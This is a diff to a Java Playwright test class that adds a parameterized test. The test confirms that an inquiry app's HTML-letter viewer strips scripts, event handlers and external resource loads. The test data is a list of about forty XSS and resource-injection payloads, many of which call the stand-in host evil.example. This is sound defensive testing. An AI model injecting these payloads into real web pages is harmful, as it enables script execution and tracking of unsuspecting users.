@@ -5,6 +5,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 
+import com.microsoft.playwright.Locator;
 import org.inquirytriage.inquiry.BodyText;
 import org.inquirytriage.inquiry.Explanation;
 import org.inquirytriage.inquiry.Explanation.Attachment;
@@ -74,12 +75,65 @@ class InjectionTests extends BrowserTest {
 			this.page
 				.evaluate("document.querySelectorAll('main *').forEach(e => e.dispatchEvent(new Event('mouseover')))");
 			assertThat(this.page.evaluate("window.attacked")).isNull();
-			assertThat(
-					this.page.locator("main script, main iframe, main object, main style, main svg, main img").count())
-				.isZero();
+			assertThat(this.page
+				.locator("main script, main iframe:not([sandbox='']), main object, main style, main svg, main img")
+				.count()).isZero();
 		}
 		assertThat(this.page.locator(".letter .text").first().textContent()).contains("B " + attack.substring(0, 1));
 		assertThat(this.page.content()).doesNotContain("49 49", ">49<");
+		assertThat(this.strangeRequests).isEmpty();
+		assertThat(this.complaints).isEmpty();
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "<script>parent.attacked=1</script>", "<script src=http://evil.example/x.js></script>",
+			"<img src=http://evil.example/pixel.gif>", "<img srcset='http://evil.example/a.png 1x' alt=x>",
+			"<picture><source srcset=http://evil.example/a.png><img src=x onerror=parent.attacked=1></picture>",
+			"<table background=http://evil.example/a.png><tr><td background=//evil.example/b.png>x</td></tr></table>",
+			"<div style=\"background:url(http://evil.example/a.png)\">x</div>",
+			"<style>body{background:url(http://evil.example/a.png)}</style>",
+			"<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)} *{font-family:x}</style>",
+			"<link rel=stylesheet href=http://evil.example/a.css>", "<link rel=prefetch href=http://evil.example/>",
+			"<link rel=dns-prefetch href=//evil.example>",
+			"<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+			"<base href=http://evil.example/><p>x</p>", "<iframe src=http://evil.example/></iframe>",
+			"<iframe srcdoc='<script>parent.parent.attacked=1</script>'></iframe>",
+			"<object data=http://evil.example/x></object>", "<embed src=http://evil.example/x>",
+			"<video src=http://evil.example/v.mp4 autoplay poster=http://evil.example/p.png></video>",
+			"<audio src=http://evil.example/a.mp3 autoplay></audio>",
+			"<svg><image href=http://evil.example/a.png /><script>parent.attacked=1</script></svg>",
+			"<svg onload=parent.attacked=1><use href=http://evil.example/a.svg#x /></svg>",
+			"<math><annotation-xml encoding=text/html><img src=http://evil.example/m.png></annotation-xml></math>",
+			"<form action=http://evil.example/><input name=q autofocus onfocus=parent.attacked=1><button>Send</button></form>",
+			"<button formaction=http://evil.example/ onclick=parent.attacked=1>x</button>",
+			"<a href=http://evil.example/ ping=http://evil.example/ping>Open</a>",
+			"<a href=javascript:parent.attacked=1>x</a>", "<area href=http://evil.example/ shape=default>",
+			"<body onload=parent.attacked=1 background=http://evil.example/a>",
+			"<p onmouseover=parent.attacked=1 style='position:fixed;inset:0'>x</p>",
+			"<noscript><p title=\"</noscript><img src=http://evil.example/n.png onerror=parent.attacked=1>\">x</noscript>",
+			"<template><img src=http://evil.example/t.png></template>",
+			"<textarea></textarea><img src=http://evil.example/x.png onerror=parent.attacked=1></textarea>",
+			"<!--[if mso]><img src=http://evil.example/mso.png><![endif]-->",
+			"<![CDATA[<img src=http://evil.example/c.png>]]>", "<bgsound src=http://evil.example/x.mid>",
+			"<input type=image src=http://evil.example/i.png>", "<html manifest=http://evil.example/m><p>x</p>",
+			"<isindex action=http://evil.example/ prompt=x>", "<frameset><frame src=http://evil.example/></frameset>",
+			"<xml id=x src=http://evil.example/x.xml></xml>",
+			"<p style=\"behavior:url(http://evil.example/x.htc)\">x</p>",
+			"<p style=\"width:expression(parent.attacked=1)\">x</p>",
+			"<dialog open><img src=http://evil.example/d.png></dialog>" })
+	void doNothingInTheHtmlPart(String attack) {
+		InquiryId id = this.cases.held("An HTML letter", "unsure",
+				new BodyText("Hello", "", "", "<p>Before</p>" + attack + "<p>After</p>"), Explanation.NONE);
+		go("/inquiries/" + id);
+		this.page.click(".html-letter summary");
+		Locator body = this.page.frameLocator(".html-letter iframe").locator("body");
+		assertThat(body
+			.locator("style, script, img, a, iframe, object, embed, form, input, button, svg, video, audio, "
+					+ "link, meta, base, [style], [src], [href], [onload], [onmouseover]")
+			.count()).isZero();
+		assertThat(body.innerHTML()).contains("<p>Before</p>").doesNotContainIgnoringCase("<script", "onerror=");
+		assertThat(this.page.evaluate("window.attacked")).isNull();
+		assertThat(this.page.url()).endsWith("/inquiries/" + id);
 		assertThat(this.strangeRequests).isEmpty();
 		assertThat(this.complaints).isEmpty();
 	}
